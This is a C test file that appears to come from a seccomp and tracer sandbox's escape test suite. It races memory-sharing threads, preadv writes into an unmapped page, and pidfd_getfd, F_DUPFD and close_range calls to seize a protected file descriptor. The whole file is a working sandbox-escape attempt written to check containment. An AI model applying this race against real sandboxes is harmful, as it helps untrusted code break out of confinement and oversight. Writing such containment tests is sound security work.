/* SPDX-License-Identifier: LGPL-3.0-or-later */
/*
 * A descriptor is handed over in a message to a page of who asked for it. A process that shares
 * that memory writes a protected number there, for the tracer to close or to duplicate. Where there
 * is no filter, nothing else stands in the way of what is done in a member's name.
 * ATTACK MODES: seccomp
 * ATTACK BROKEN: MAILBOX
 */
#include "escape.h"

#include <sys/uio.h>

#define DELAY_MAX (1 << 20)

static char *page;
static int numbers; /* a file that ends with two of them: where a pair of sockets is told */
static char stack[65536], sink[DELAY_MAX];

/* Without a signal where there is no page now; after a while in the kernel, where nobody stops. */
static int forge(void *data)
{
	(void)data;
	for (unsigned int i = 0;; i++) {
		size_t delay = (size_t)i * 7919 % DELAY_MAX;
		struct iovec parts[] = { { sink, delay }, { page, 2 * sizeof(int) } };

		(void)!preadv(numbers, parts, 2, (off_t)(DELAY_MAX - delay));
	}
	return 0;
}

int main(void)
{
	int wanted[2] = { find_protected(), 0 };
	unsigned long given_count = 0;
	struct race race = { 0 };
	struct rlimit limit;
	pid_t child;
	int self;

	enter_scratch();
	wanted[1] = wanted[0];
	numbers = open("numbers", O_RDWR | O_CREAT, 0600);
	if (numbers < 0 || pwrite(numbers, wanted, sizeof(wanted), DELAY_MAX) != sizeof(wanted))
		broken("no numbers");
	if (getrlimit(RLIMIT_NOFILE, &limit) < 0)
		broken("getrlimit");
	limit.rlim_cur = limit.rlim_max;
	(void)setrlimit(RLIMIT_NOFILE, &limit);
	self = (int)syscall(SYS_pidfd_open, getpid(), 0);
	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	munmap(page, 4096);
	child = clone(forge, stack + sizeof(stack), CLONE_VM | SIGCHLD, NULL);
	if (child < 0)
		broken("clone");
	while (racing_until(&race, given_count > 20)) {
		int fd = (int)syscall(SYS_pidfd_getfd, self, numbers, 0);

		given_count += fd >= 0;
		fd = fcntl(0, F_DUPFD, wanted[0]);
		if (fd == wanted[0])
			escaped("the protected number %d is the attacker's", fd);
		close(fd);
		syscall(SYS_close_range, self + 1, wanted[0] - 1, 0);
	}
	kill(child, SIGKILL);
	if (given_count == 0)
		broken("nothing was handed over");
	contained();
}
